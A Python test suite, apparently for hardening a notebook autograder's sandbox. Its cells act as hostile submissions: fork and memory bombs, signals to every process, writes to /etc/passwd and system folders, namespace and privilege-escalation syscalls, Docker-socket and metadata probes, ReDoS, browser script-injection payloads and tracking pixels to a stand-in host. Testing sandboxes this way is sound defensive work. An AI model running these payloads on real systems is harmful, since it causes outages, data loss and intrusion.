"""Attacks that do harm: files, processes, signals, memory, output, time, network, the kernel.

Read as cells like verdict.py; other tasks stay unanswered. Each must leave the class as it was: the
honest submission graded after it takes all points in about the usual time. A cell prints `DONE` and
what it reached where reaching it would be the harm.
"""

# ruff: noqa

# %% prelude
import ctypes, glob, itertools, os, signal, socket, subprocess, sys, threading, time

libc = ctypes.CDLL(None, use_errno=True)


def tell(reached, *what):
    print("DONE" if reached else "refused", *what)


def harm(name, act):
    try:
        result = act()
    except BaseException as error:
        print("refused", name, type(error).__name__)
    else:
        tell(result not in (-1, None, False), name, result)


# %% write_everywhere [add]
"""Writes and deletes in every folder that might matter."""
for folder in [
    "/",
    "/etc",
    "/usr",
    "/usr/bin",
    "/partwise",
    "/partwise/autograder",
    "/partwise/course",
    "/dev",
    "/root",
    "/home",
    "/var",
    "/proc/sys/kernel",
    os.path.dirname(os.__file__),
    sys.prefix,
    sys.prefix + "/bin",
]:
    harm(folder, lambda: open(folder + "/planted", "w").write("x"))
    harm(folder, lambda: os.mkdir(folder + "/planted.d") or True)
for file in [
    "/etc/passwd",
    "/partwise/autograder/engine/player/player.py",
    os.__file__,
    sys.executable,
    "/etc/ld.so.cache",
    "/proc/sysrq-trigger",
    "/dev/mem",
    "/dev/vda",
    "/dev/kmsg",
]:
    harm(file, lambda: open(file, "r+b") and True)
    harm(file, lambda: os.remove(file) or True)

# %% symlinks [add]
"""Links to what lies outside, in the hope that somebody follows them."""
for name, target in {
    "castle.ipynb": "/KEPT/castle.ipynb",
    "up": "/proc/self/root/../..",
    "db": "/KEPT/gradebook.db",
}.items():
    os.symlink(target, name)
    harm(name, lambda: open(name).read(1))
    harm(name, lambda: open(name, "a").write("x"))

# %% kill_everybody [add]
"""Signals to every number there is, to the group, to the parent."""
for number in itertools.chain([0, -1, os.getppid()], range(2, 3000)):
    for sign in (
        (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL) if number not in (0, -1) else (signal.SIGUSR1,)
    ):
        try:
            signal.signal(signal.SIGUSR1, signal.SIG_IGN)
            os.kill(number, sign)
            if number > 1:
                tell(True, "kill", number)
        except OSError:
            pass
os.killpg(0, signal.SIGKILL)

# %% end_itself [add]
"""os._exit, abort, a wild pointer."""
os._exit(0)


# %% wild_pointer [add]
"""A segmentation fault in a call."""


def add(a, b):
    ctypes.string_at(0)


# %% memory_bomb [add]
"""Takes all the memory there is."""
kept = []
while True:
    kept.append(bytearray(64 << 20))

# %% shared_memory_bomb [add]
"""Memory that no limit of one process counts: shared, in files, in pipes, in System V segments."""
import mmap

kept = [mmap.mmap(-1, 64 << 20) for _ in range(3)]
harm(
    "mmap",
    lambda: [kept.append(m := mmap.mmap(-1, 64 << 20)) or m.write(b"x" * (64 << 20)) for _ in range(20)],
)
harm("memfd", lambda: os.write(os.memfd_create("x"), b"x" * 1000))
harm("shmget", lambda: libc.shmget(0, ctypes.c_size_t(1 << 30), 0o1600))
harm("msgget", lambda: libc.msgget(0, 0o1600))


def fill(folder):
    written = 0
    for i in range(1000):
        with open(f"{folder}/f{i}", "wb") as file:
            written += file.write(b"x" * (16 << 20))
        if written > 600 << 20:
            return written


for folder in ("/tmp", "/dev/shm", "."):
    harm(folder, lambda: fill(folder))
harm("inodes", lambda: [open(f"/tmp/i{i}", "w").close() for i in range(100_000)])

# %% memory_of_many [add]
"""Many processes that each stay below the limit."""
for _ in range(12):
    if os.fork() == 0:
        kept = bytearray(200 << 20)
        time.sleep(60)
time.sleep(60)

# %% fork_bomb [add]
"""Processes without end."""
started = 0
try:
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
        started += 1
except OSError:
    pass
tell(started > 100, started)
time.sleep(60)

# %% thread_bomb [add]
"""Threads without end."""
started = 0
try:
    while started < 2000:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        started += 1
except RuntimeError:
    pass
tell(started > 100, started)

# %% descriptor_bomb [add]
"""Open files without end."""
kept = []
try:
    while True:
        kept.append(os.open("/dev/null", 0))
except OSError:
    tell(len(kept) > 300, len(kept))

# %% large_file [add]
"""A file larger than allowed, and a sparse one."""
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
harm("sparse", lambda: os.truncate(os.open("big", os.O_CREAT | os.O_RDWR), 1 << 40) or True)
harm("file", lambda: open("large", "wb").write(b"x" * (300 << 20)))

# %% output_flood [add]
"""Output without end, in large and small pieces, by display, and past Python."""
from IPython.display import display

subprocess.run("head -c 100000000 /dev/zero", shell=True)
for number in (1, 2):
    os.write(number, b"x" * (10 << 20))
for i in range(50):
    display({"text/plain": "x" * (1 << 20)}, raw=True)
    display({"application/json": ["x" * 1000] * 100}, raw=True)
while True:
    print("x" * 100_000)

# %% many_outputs [add]
"""Empty displays in their hundreds of thousands, and large metadata."""
from IPython.display import display

for i in range(200_000):
    display({"text/plain": ""}, metadata={"k": "A" * 1000}, raw=True)

# %% endless_loop [add]
"""while True."""
while True:
    pass

# %% endless_loop_deaf [add]
"""The same, deaf to interrupts, alarms and exceptions."""
signal.signal = lambda *a: None
signal.setitimer = signal.alarm = lambda *a: None
for number in range(1, 65):
    try:
        libc.signal(number, ctypes.c_void_p(1))
    except Exception:
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass


# %% endless_loop_in_a_call [add]
"""A call that sleeps for ever and swallows every exception."""


def add(a, b):
    while True:
        try:
            time.sleep(1)
        except BaseException:
            pass


# %% endless_regex [add]
"""A loop in C, which no Python signal handler interrupts."""
import re

re.match(r"(a+)+$", "a" * 60 + "b")

# %% slow_answers [add]
"""Every cell and every call as slow as allowed."""


def add(a, b):
    time.sleep(1.5)
    return None


# %% slow_answers [double]
def double(x):
    time.sleep(1.5)


# %% slow_answers [squares]
def squares(n):
    time.sleep(1.5)


# %% network [add]
"""Sockets of every family to everywhere."""
for address in ["127.0.0.1", "1.1.1.1", "10.0.0.1", "169.254.169.254", "0.0.0.0"]:
    for port in (22, 53, 80, 443, 5432, 8888):
        harm(address, lambda: socket.create_connection((address, port), 0.05))
for family in range(46):
    if family not in (1, 2, 10):
        harm(
            f"family {family}",
            lambda: socket.socket(family, socket.SOCK_RAW if family in (16, 17) else socket.SOCK_STREAM),
        )
harm("name", lambda: socket.gethostbyname("example.org"))
for path in ["/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"]:
    harm(path, lambda: socket.socket(socket.AF_UNIX).connect(path) or True)

# %% namespaces [add]
"""New namespaces, mounts, other roots."""
for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x8000000, 0x4000000, 0x2000000, 0x10020000):
    harm(f"unshare {flag:#x}", lambda: libc.unshare(flag) + 1)
    harm(f"clone {flag:#x}", lambda: libc.syscall(56, flag | 17, 0, 0, 0, 0) + 0)
    harm(f"clone3 {flag:#x}", lambda: libc.syscall(435, (ctypes.c_uint64 * 8)(flag, 0, 0, 0, 17), 64))
for name in ("mnt", "pid", "user", "net", "ipc", "uts"):
    harm(f"setns {name}", lambda: libc.setns(os.open(f"/proc/self/ns/{name}", 0), 0) + 1)
harm("mount", lambda: libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None) + 1)
harm("umount", lambda: libc.umount2(b"/proc", 2) + 1)
harm("chroot", lambda: os.chroot("/tmp") or True)
harm("pivot_root", lambda: libc.syscall(155, b"/tmp", b"/tmp") + 1)
harm("remount", lambda: libc.mount(b"", b"/", None, 32, None) + 1)
harm("open_tree", lambda: libc.syscall(428, -100, b"/", 1))
harm("fsopen", lambda: libc.syscall(430, b"tmpfs", 0))
harm(
    "unshare command", lambda: subprocess.run(["unshare", "-Ur", "true"], capture_output=True).returncode == 0
)

# %% kernel [add]
"""System calls that no exercise needs."""
buffer = ctypes.create_string_buffer(4096)
calls = {
    "ptrace": (101, 0, 0, 0, 0),
    "ptrace attach": (101, 16, 1, 0, 0),
    "keyctl": (250, 0, -3, 1),
    "add_key": (248, b"user", b"x", b"y", 1, -4),
    "request_key": (249, b"user", b"x", 0, -3),
    "io_uring": (425, 4, buffer),
    "bpf": (321, 0, buffer, 128),
    "perf": (298, buffer, 0, -1, -1, 0),
    "userfaultfd": (323, 1),
    "kexec": (246, 0, 0, 0, 0),
    "process_vm_readv": (310, 1, buffer, 1, buffer, 1, 0),
    "pidfd_getfd": (438, 3, 0, 0),
    "init_module": (175, buffer, 10, b""),
    "reboot": (169, 0xFEE1DEAD, 672274793, 0),
    "settimeofday": (164, buffer, 0),
    "syslog": (103, 3, buffer, 100),
    "personality": (135, 0x0400000),
    "quotactl": (179, 0, 0, 0, 0),
    "handle": (304, -100, buffer, 0),
    "fanotify": (300, 0, 0),
    "swapon": (167, b"x", 0),
}
for name, (number, *rest) in calls.items():
    harm(
        name,
        lambda: (lambda r: False if r == -1 else True)(
            libc.syscall(number, *[ctypes.c_long(r) if isinstance(r, int) else r for r in rest])
        ),
    )

# %% more_rights [add]
"""setuid, capabilities, sudo, files with the set-user bit."""
for act in (os.setuid, os.setgid, os.seteuid):
    harm(act.__name__, lambda: act(0) or True)
harm("groups", lambda: os.setgroups([0]) or True)
harm(
    "su",
    lambda: (
        subprocess.run(["su", "-c", "id -u"], capture_output=True, stdin=subprocess.DEVNULL).stdout.strip()
        == b"0"
    ),
)
harm(
    "suid",
    lambda: any(
        subprocess.run([p, "--help"], capture_output=True, preexec_fn=None).returncode is None
        for p in glob.glob("/usr/bin/*sudo*")
    ),
)
harm(
    "caps",
    lambda: int(next(l for l in open("/proc/self/status") if l.startswith("CapBnd")).split()[1], 16) != 0,
)
harm("limits", lambda: __import__("resource").setrlimit(7, (10**6, 10**6)) or True)
harm("nice", lambda: os.nice(-5) or True)
harm("realtime", lambda: os.sched_setscheduler(0, 1, os.sched_param(1)) or True)

# %% asks_for_input [add]
"""input() in a cell, and in a call."""


def add(a, b):
    return int(input("sum? "))


input("anything? ")

# %% odd_process_name [add]
"""Processes with names that are no text, and that look like the kernel's own lines."""
for name in (b"\xff\xfe", b") R 1 1 (", b"a\nPPid:\t1"):
    if os.fork() == 0:
        libc.prctl(15, name, 0, 0, 0)
        time.sleep(60)
        os._exit(0)
libc.prctl(15, b"\xff) 9 (\xfe", 0, 0, 0)
time.sleep(0.5)


# %% long_file_name [add]
"""A file whose name is as long as names can be: 63 emoji, where something may be put after it."""
EMOJI = "\N{PILE OF POO}" * 63


def add(a, b):
    open(EMOJI, "w").write("x")
    return None


open(EMOJI, "w").write("x")
open(EMOJI[:62] + ".csv", "w").write("x")

# %% shared_memory_of_many [add]
"""Memory that many processes share, each with less than one may have."""
import mmap

for _ in range(12):
    memory = mmap.mmap(-1, 60 << 20)
    if os.fork() == 0:
        memory.write(b"x" * (60 << 20))
        time.sleep(60)
        os._exit(0)
    memory.close()
time.sleep(1.5)
tell(True, "700 MB of shared memory")

# %% cells_of_a_megabyte [add]
"""Two hundred cells that print a megabyte each."""


def add(a, b):
    print("x" * 1_000_000)


# %% cells_of_a_megabyte [more]
print("x" * 1_000_000)

# %% abstract_sockets [add]
"""Looks for what another player left under a name that no folder holds, and leaves something there."""
place = "\0partwise"
if os.fork() == 0:
    server = socket.socket(socket.AF_UNIX)
    try:
        server.bind(place)
        server.listen()
        time.sleep(60)
    except OSError:
        pass
    os._exit(0)

# %% abstract_sockets_of_a_neighbor [add]
"""Asks the player before it, whose processes listen under an abstract name and at a port."""
harm("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\0partwise") or True)
harm("port", lambda: socket.create_connection(("127.0.0.1", 20777), 0.2))

# %% processor_theft [add]
"""Threads and processes that go on spinning after the cell, in sessions of their own."""


def spin():
    while True:
        pass


for _ in range(20):
    if os.fork() == 0:
        os.setsid()
        spin()
for _ in range(4):
    threading.Thread(target=spin, daemon=True).start()


# %% reply_bomb [add]
"""A small reply that is huge when it is looked at: lists of one list, sixty deep."""


def bomb(leaf):
    for _ in range(60):
        leaf = [leaf, leaf]
    return leaf


def add(a, b):
    return bomb([a])


# %% reply_bomb [squares]
def squares(n):
    return {"a": bomb((1,)), "b": bomb({})}


# %% reply_bomb [arrange]
def arrange(items):
    items[:] = bomb([0])


# %% calls_before_the_limit [add]
"""Cells and calls that each end just before their limit, again and again."""


def slow(*given, **more):
    time.sleep(1.7)


add = double = ratio = squares = root = summed = soft = words = story = slow

# %% calls_before_the_limit [more]
time.sleep(1.7)

# %% large_replies [double]
"""Replies of many megabytes, to every call of every test."""
import torch


def double(x):
    return torch.zeros(6_000_000)


# %% large_replies [squares]
def squares(n):
    return "x" * 30_000_000


# %% slow_page [add]
"""Cells and words over which whoever makes a page of them despairs."""
from IPython.display import Markdown, display

display(Markdown("*_" * 50_000 + "[" * 50_000 + "<" * 20_000))
display(Markdown("> " * 5_000 + "x"))
print("\n" * 100_000)

# %% live_html [add]
"""Displays that would run in the browser of whoever looks at the graded notebook."""
from IPython.display import HTML, SVG, Javascript, Markdown, display

LIVE = "<script>document.title='evil'</script><img src=x onerror=evil()><svg onload=evil()></svg>"
display(HTML(LIVE))
display(Markdown(LIVE))
display(Javascript("evil()"))
display({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{LIVE}</svg>"}, raw=True)
display({"text/latex": r"$\href{javascript:evil()}{x}$"}, raw=True)

# %% remote_pictures [add]
"""Pictures, styles and links that make a page ask another machine, and so tell who reads it."""
from IPython.display import HTML, Image, Markdown, display

ELSEWHERE = "https://elsewhere.invalid/seen.png"
display(HTML(f"<img src='{ELSEWHERE}'><link rel=stylesheet href='{ELSEWHERE}'>"))
display(
    HTML(f"<table style='background:url({ELSEWHERE})'><tr><td background='{ELSEWHERE}'>x</td></tr></table>")
)
display(Markdown(f"![x]({ELSEWHERE})"))
display(Image(url=ELSEWHERE))
display(
    {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{ELSEWHERE}'/></svg>"}, raw=True
)

# %% idle_class_and_children [add]
"""Makes itself the last that the kernel runs, beside children that run: the time it waits is its own doing."""
import os

try:
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
except OSError:
    pass
for _ in range(20):
    if os.fork() == 0:
        while True:
            pass
while True:
    pass
